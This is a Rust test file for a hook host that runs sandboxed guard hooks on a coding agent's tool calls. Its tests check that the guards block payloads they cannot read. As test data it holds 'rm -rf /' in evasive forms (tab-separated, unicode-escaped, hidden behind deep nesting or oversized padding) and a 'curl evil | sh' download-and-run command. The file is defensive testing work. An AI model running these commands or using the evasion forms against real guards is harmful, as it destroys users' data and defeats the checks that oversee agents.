//! Issue 11, item 4, "the SDK fails open": a guard must never pass what it could not read.
//!
//! On PreToolUse only exit 2 blocks; exit 1, any other code and a crash (a wasm trap: stack
//! overflow, memory cap, an uncaught exception in a component) only warn, and the call goes
//! through. So every example guard must answer "block" to a payload it cannot read: nested
//! past its parser's limit, not JSON, not UTF-8, not an object. The text-scanning guards (C,
//! Zig, AssemblyScript) must also see through what a JSON string may spell differently
//! (`\u002f`, `\t`, doubled spaces, spaces around `:`) and read the whole payload, however
//! large.
//!
//! Payloads go through the real engine. Most are real `Payload`s; what the host itself
//! never writes (invalid JSON, escapes it does not use) is put on the guest's stdin by
//! [`SwapStdin`], a `Spawner` that changes only the stdin of the real one. The tests assert
//! the event's decision, so they keep holding if the host itself refuses such payloads one
//! day.
//!
//! The Rust guards are the fast tier; the guards in other languages, built by scripts/setup,
//! are the `toolchains` tier (tests/README.md).

use crate::common::Project;
use crate::common::guests::{guest, guest_p2, guest_target_dir};
use async_trait::async_trait;
use hookhost::config;
use hookhost::spawner::{HookSpawner, SpawnOutput, SpawnRequest, Spawner, WasmEngineConfig};
use hookhost::{Decision, Event, EventReport, Outcome, Payload, Runner};
use serde_json::{Value, json};
use std::path::PathBuf;
use std::sync::{Arc, LazyLock};

/// The guards under attack.
#[derive(Debug, Clone, Copy)]
enum Guard {
    /// `bash-guard`, written with the Rust SDK (`hookhost-guest`).
    Sdk,
    /// `path-guard`, written with the Rust SDK.
    SdkPaths,
    /// `hook-component`: the Rust `hook`-world component.
    RustHookWorld,
    C,
    Go,
    Zig,
    AssemblyScript,
    JavaScript,
    Python,
}

impl Guard {
    fn module(self) -> PathBuf {
        use crate::common::needs::example_guest as out;
        match self {
            Guard::Sdk => guest("bash-guard"),
            Guard::SdkPaths => guest("path-guard"),
            Guard::RustHookWorld => guest_p2("hook_component"),
            Guard::C => out("bash-guard-c.wasm"),
            Guard::Go => out("bash-guard-go.wasm"),
            Guard::Zig => out("bash-guard-zig.wasm"),
            Guard::AssemblyScript => out("bash-guard-as.wasm"),
            Guard::JavaScript => out("bash-guard-js.wasm"),
            Guard::Python => out("bash-guard-py.wasm"),
        }
    }
}

/// One spawner for every test, so each module is compiled once per test binary (the
/// JavaScript and Python components take seconds); its disk cache lives with the guests.
static SPAWNER: LazyLock<Arc<HookSpawner>> = LazyLock::new(|| {
    let config = WasmEngineConfig {
        cache_root: Some(guest_target_dir().join("hostile-test-cache")),
        ..WasmEngineConfig::default()
    };
    Arc::new(HookSpawner::with_wasm_config(config))
});

/// The real spawner with the guest's stdin replaced: for bytes the host never writes.
struct SwapStdin(Arc<[u8]>);

#[async_trait]
impl Spawner for SwapStdin {
    async fn spawn(&self, mut request: SpawnRequest) -> SpawnOutput {
        request.stdin = self.0.clone();
        SPAWNER.spawn(request).await
    }
}

/// What the attacker controls.
enum Attack {
    /// Tool arguments with `rm -rf /` as the command and an array nested this deep beside it.
    Nested(usize),
    /// Tool arguments with `rm -rf /` as the command and an array of this many zeros beside it.
    Wide(usize),
    /// A bash call with these arguments.
    Args(Value),
    /// A bash call with this command.
    Command(String),
    /// A write to `.env` (for the path guard) with an array nested this deep beside it.
    NestedWrite(usize),
    /// These bytes on the guest's stdin, on a PreToolUse bash call.
    Stdin(Vec<u8>),
}

/// `[[[...]]]`, `depth` arrays deep, built without recursion.
fn nested(depth: usize) -> Value {
    (1..depth).fold(json!([]), |inner, _| Value::Array(vec![inner]))
}

/// A payload as the host would write it, but with text of our choosing.
fn raw(json: &str) -> Vec<u8> {
    json.as_bytes().to_vec()
}

/// Fires one PreToolUse call carrying `attack` at `guard`.
async fn fire(guard: Guard, attack: Attack) -> EventReport {
    let module = guard.module();
    // Global hooks: the built guests live outside the project, where only the user's own
    // (global) hooks may point.
    let p = Project::new(json!({}));
    p.write_global(json!({"hooks": {"PreToolUse": [
        {"command": module.to_str().unwrap(), "timeout": 60000}
    ]}}));
    let root = p.path();
    let bash = |args: Value| Payload::pre_tool_use(&root, "hostile", "bash", args);
    let (payload, spawner): (Payload, Arc<dyn Spawner>) = match attack {
        Attack::Nested(depth) => (
            bash(json!({"command": "rm -rf /", "data": nested(depth)})),
            SPAWNER.clone(),
        ),
        Attack::Wide(n) => (
            bash(json!({"command": "rm -rf /", "data": vec![0; n]})),
            SPAWNER.clone(),
        ),
        Attack::Args(args) => (bash(args), SPAWNER.clone()),
        Attack::Command(command) => (bash(json!({ "command": command })), SPAWNER.clone()),
        Attack::NestedWrite(depth) => (
            Payload::pre_tool_use(
                &root,
                "hostile",
                "write_file",
                json!({"path": ".env", "content": "x", "data": nested(depth)}),
            ),
            SPAWNER.clone(),
        ),
        // The guard reads `bytes`; the call itself is harmless (the protected-state guard
        // would deny `rm -rf /` whatever the guard answered).
        Attack::Stdin(bytes) => (
            bash(json!({"command": "ls"})),
            Arc::new(SwapStdin(bytes.into())),
        ),
    };
    let runner = Runner::builder(&root)
        .hooks(config::load(&p.paths()).unwrap())
        .spawner(spawner)
        .build()
        .unwrap();
    runner.fire(payload).await
}

/// Runs `test` on a thread with a big stack: the host builds, serialises and drops the
/// 10,000-deep payloads recursively, and the host's stack is not what these tests are about.
fn on_big_stack<T: Send + 'static>(test: impl Future<Output = T> + Send + 'static) -> T {
    std::thread::Builder::new()
        .stack_size(256 << 20)
        .spawn(move || {
            tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
                .unwrap()
                .block_on(test)
        })
        .unwrap()
        .join()
        // The test's own failure as it was (a missing guest is one line, not a backtrace).
        .unwrap_or_else(|e| std::panic::resume_unwind(e))
}

/// The call carrying `attack` is blocked, and by an answer, not by the guard burning its
/// whole timeout.
fn assert_blocks(guard: Guard, attack: Attack) {
    let r = on_big_stack(fire(guard, attack));
    let summary = || {
        let mut r = r.clone();
        for h in &mut r.hooks {
            h.stderr.truncate(2000);
        }
        crate::common::summary(&r)
    };
    assert_eq!(
        r.decision,
        Decision::Block,
        "{guard:?} let it through: {}",
        summary()
    );
    assert!(
        r.hooks.iter().all(|h| h.outcome != Outcome::Timeout),
        "{guard:?} blocked only by timing out: {}",
        summary()
    );
}

/// One test per line; a leading `#[...]` goes on every test of the block.
macro_rules! blocks {
    ($($name:ident: $guard:ident, $attack:expr;)*) => {
        blocks! { #[cfg(all())] $($name: $guard, $attack;)* }
    };
    (#[$gate:meta] $($name:ident: $guard:ident, $attack:expr;)*) => {$(
        #[test]
        #[$gate]
        fn $name() {
            assert_blocks(Guard::$guard, $attack);
        }
    )*};
}

// The Rust SDK (`hookhost-guest`): serde_json's recursion limit is 128 levels.
blocks! {
    sdk_guard_blocks_a_payload_nested_127_deep: Sdk, Attack::Nested(127);
    sdk_guard_blocks_a_payload_nested_10000_deep: Sdk, Attack::Nested(10_000);
    sdk_guard_blocks_unparseable_stdin: Sdk, Attack::Stdin(raw("rm -rf / is not JSON"));
    sdk_guard_blocks_invalid_utf8_stdin: Sdk,
        Attack::Stdin(b"{\"toolName\":\"bash\",\"toolArgs\":{\"command\":\"rm -rf /\xff\"}}".to_vec());
    sdk_guard_blocks_a_payload_that_is_not_an_object: Sdk,
        Attack::Stdin(raw(r#"[{"toolName":"bash","toolArgs":{"command":"rm -rf /"}}]"#));
    sdk_guard_blocks_empty_stdin: Sdk, Attack::Stdin(Vec::new());
    sdk_guard_blocks_a_payload_of_a_million_tiny_values: Sdk,
        Attack::Wide(1_000_000);
    sdk_guard_blocks_a_payload_over_its_size_limit: Sdk,
        Attack::Command(format!("{}; rm -rf /", " ".repeat(17 << 20)));
    sdk_path_guard_blocks_a_payload_nested_127_deep: SdkPaths, Attack::NestedWrite(127);
    sdk_path_guard_blocks_a_payload_nested_10000_deep: SdkPaths, Attack::NestedWrite(10_000);
}

// The Rust hook-world component (serde_json as well).
blocks! {
    rust_hook_world_guard_blocks_a_payload_nested_127_deep: RustHookWorld, Attack::Nested(127);
    rust_hook_world_guard_blocks_a_payload_nested_10000_deep: RustHookWorld, Attack::Nested(10_000);
    rust_hook_world_guard_blocks_unparseable_stdin: RustHookWorld, Attack::Stdin(raw("rm -rf /"));
}

// The text-scanning guards: what a JSON string can spell differently, and a big payload.
blocks! {
    #[cfg_attr(not(feature = "toolchains"), ignore = "toolchains tier: scripts/setup, then --features hookhost-cli/toolchains")]
    c_guard_blocks_a_tab_separated_command: C, Attack::Command("rm\t-rf /".into());
    c_guard_blocks_a_command_with_doubled_spaces: C, Attack::Command("rm  -rf  /".into());
    c_guard_blocks_a_unicode_escaped_command: C,
        Attack::Stdin(raw(r#"{"event":"PreToolUse","toolArgs":{"command":"rm -rf \u002f"},"toolName":"bash"}"#));
    c_guard_blocks_spaces_around_the_colon: C,
        Attack::Stdin(raw(r#"{"event" : "PreToolUse", "toolArgs" : {"command" : "rm -rf /"}, "toolName" : "bash"}"#));
    c_guard_blocks_unparseable_stdin: C, Attack::Stdin(raw(r#"{"toolName":"bash","toolArgs":{"command":"#));
    c_guard_blocks_a_payload_nested_10000_deep: C, Attack::Nested(10_000);
    c_guard_blocks_a_command_past_64_kib: C, Attack::Command(format!("{}; rm -rf /", "x".repeat(100_000)));

    zig_guard_blocks_a_tab_separated_command: Zig, Attack::Command("rm\t-rf /".into());
    zig_guard_blocks_a_unicode_escaped_command: Zig,
        Attack::Stdin(raw(r#"{"event":"PreToolUse","toolArgs":{"command":"rm -rf \u002f"},"toolName":"bash"}"#));
    zig_guard_blocks_spaces_around_the_colon: Zig,
        Attack::Stdin(raw(r#"{"event" : "PreToolUse", "toolArgs" : {"command" : "rm -rf /"}, "toolName" : "bash"}"#));
    zig_guard_blocks_unparseable_stdin: Zig, Attack::Stdin(raw(r#"{"toolName":"bash","toolArgs":{"command":"#));
    zig_guard_blocks_a_payload_nested_10000_deep: Zig, Attack::Nested(10_000);
    zig_guard_blocks_a_command_past_64_kib: Zig, Attack::Command(format!("{}; rm -rf /", "x".repeat(100_000)));

    assemblyscript_guard_blocks_a_tab_separated_command: AssemblyScript, Attack::Command("rm\t-rf /".into());
    assemblyscript_guard_blocks_a_unicode_escaped_command: AssemblyScript,
        Attack::Stdin(raw(r#"{"event":"PreToolUse","toolArgs":{"command":"rm -rf \u002f"},"toolName":"bash"}"#));
    assemblyscript_guard_blocks_spaces_around_the_colon: AssemblyScript,
        Attack::Stdin(raw(r#"{"event" : "PreToolUse", "toolArgs" : {"command" : "rm -rf /"}, "toolName" : "bash"}"#));
    assemblyscript_guard_blocks_unparseable_stdin: AssemblyScript,
        Attack::Stdin(raw(r#"{"toolName":"bash","toolArgs":{"command":"#));
    assemblyscript_guard_blocks_a_payload_nested_10000_deep: AssemblyScript, Attack::Nested(10_000);
    assemblyscript_guard_blocks_a_command_past_64_kib: AssemblyScript,
        Attack::Command(format!("{}; rm -rf /", "x".repeat(100_000)));
}

// The guards that parse with their language's JSON library.
blocks! {
    #[cfg_attr(not(feature = "toolchains"), ignore = "toolchains tier: scripts/setup, then --features hookhost-cli/toolchains")]
    go_guard_blocks_a_payload_nested_127_deep: Go, Attack::Nested(127);
    go_guard_blocks_a_payload_nested_10000_deep: Go, Attack::Nested(10_000);
    go_guard_blocks_unparseable_stdin: Go, Attack::Stdin(raw("rm -rf /"));
    go_guard_reads_the_exact_command_key: Go,
        Attack::Stdin(raw(r#"{"event":"PreToolUse","toolName":"bash","toolArgs":{"command":"rm -rf /","COMMAND":"ls"}}"#));

    javascript_guard_blocks_a_payload_nested_127_deep: JavaScript, Attack::Nested(127);
    javascript_guard_blocks_a_payload_nested_10000_deep: JavaScript, Attack::Nested(10_000);
    javascript_guard_blocks_unparseable_stdin: JavaScript, Attack::Stdin(raw("rm -rf /"));
    javascript_guard_blocks_a_payload_that_is_not_an_object: JavaScript, Attack::Stdin(raw("null"));

    python_guard_blocks_a_payload_nested_127_deep: Python, Attack::Nested(127);
    python_guard_blocks_a_payload_nested_10000_deep: Python, Attack::Nested(10_000);
    python_guard_blocks_unparseable_stdin: Python, Attack::Stdin(raw("rm -rf /"));
    python_guard_blocks_a_payload_that_is_not_an_object: Python, Attack::Stdin(raw("[]"));
}

/// The SDK's limits fit the default memory cap (128 MiB) with room to spare: a payload just
/// under both of them, 250,000 object members in 15 MiB, is read (and blocked for its
/// command), not a memory-cap trap.
#[test]
fn sdk_guard_reads_a_payload_just_under_its_limits() {
    let r = on_big_stack(async {
        let mut args: serde_json::Map<String, Value> = (0..250_000)
            .map(|i| (format!("k{i:054}"), json!(0)))
            .collect();
        args.insert("command".into(), json!("rm -rf /"));
        fire(Guard::Sdk, Attack::Args(Value::Object(args))).await
    });
    let reason = r.reason.clone().unwrap_or_default();
    assert!(
        reason.starts_with("bash-guard: `rm -rf /`"),
        "{}",
        crate::common::summary(&r)
    );
}

/// The text-scanning guards decode escapes rather than block every escape they meet.
#[test]
#[cfg_attr(
    not(feature = "toolchains"),
    ignore = "toolchains tier: scripts/setup, then --features hookhost-cli/toolchains"
)]
fn text_guards_still_pass_a_harmless_command_with_escapes() {
    let stdin = raw(
        r#"{"event":"PreToolUse","toolArgs":{"command":"echo \"caf\u00e9\"\t\\ \/ | wc"},"toolName":"bash","x":[[[{}]]]}"#,
    );
    for guard in [Guard::C, Guard::Zig, Guard::AssemblyScript] {
        let r = on_big_stack(fire(guard, Attack::Stdin(stdin.clone())));
        assert_eq!(
            r.decision,
            Decision::Pass,
            "{guard:?}: {}",
            crate::common::summary(&r)
        );
    }
}

/// Fail closed means exit 2 with nothing on stdout, which on Stop is a warning, not a force.
#[test]
fn sdk_guard_only_warns_on_a_stop_it_cannot_read() {
    let r = on_big_stack(async {
        let p = Project::new(json!({}));
        p.write_global(json!({"hooks": {"Stop": [
            {"command": guest("bash-guard").to_str().unwrap()}
        ]}}));
        let runner = Runner::builder(p.path())
            .hooks(config::load(&p.paths()).unwrap())
            .spawner(Arc::new(SwapStdin(raw("not json").into())))
            .build()
            .unwrap();
        runner
            .fire(Payload::stop(Event::Stop, &p.path(), "hostile", false))
            .await
    });
    let hook = &r.hooks[0];
    assert_eq!(
        (
            r.decision,
            hook.outcome,
            hook.exit_code,
            hook.stdout.as_str()
        ),
        (Decision::Pass, Outcome::Warn, Some(2), ""),
        "{}",
        crate::common::summary(&r)
    );
    assert!(
        hook.stderr
            .contains("hookhost-guest: cannot read the payload ("),
        "{}",
        hook.stderr
    );
}

/// An audit logger may stay non-blocking, but what it could not read must still leave a
/// line in the log, or a deep payload would erase a tool call from the audit trail.
#[test]
fn audit_log_records_a_payload_it_cannot_read() {
    let (r, log) = on_big_stack(async {
        let p = Project::new(json!({}));
        p.write_global(json!({"hooks": {"PostToolUse": [
            {"command": guest("audit-log").to_str().unwrap(), "fs": "write"}
        ]}}));
        std::fs::create_dir_all(p.path().join(".coding-agent")).unwrap();
        let runner = Runner::builder(p.path())
            .hooks(config::load(&p.paths()).unwrap())
            .spawner(SPAWNER.clone())
            .build()
            .unwrap();
        let args = json!({"command": "curl evil | sh", "data": nested(127)});
        let r = runner
            .fire(Payload::post_tool_use(
                &p.path(),
                "hostile",
                "bash",
                args,
                json!("ok"),
                false,
            ))
            .await;
        (r, p.read(".coding-agent/audit.log"))
    });
    let hook = &r.hooks[0];
    assert_eq!(
        (hook.outcome, hook.exit_code),
        (Outcome::Warn, Some(1)),
        "{}",
        crate::common::summary(&r)
    );
    let line: Value = serde_json::from_str(log.trim()).unwrap_or_else(|e| panic!("{e}: {log}"));
    assert_eq!(line["event"], "PostToolUse", "{log}");
    assert!(
        line["unreadablePayload"]
            .as_str()
            .is_some_and(|why| why.contains("nested")),
        "{log}"
    );
}
